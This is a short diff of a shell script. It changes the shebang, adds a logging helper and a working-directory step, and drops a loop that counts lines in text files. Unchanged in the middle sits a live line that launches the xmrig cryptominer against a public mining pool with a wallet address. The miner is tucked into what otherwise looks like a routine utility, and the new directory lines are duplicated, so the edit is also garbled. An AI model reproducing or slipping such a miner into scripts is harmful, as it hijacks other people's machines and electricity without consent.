@@ -1,6 +1,7 @@
-#!/bin/sh
+#!/usr/bin/env bash
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
 ./xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
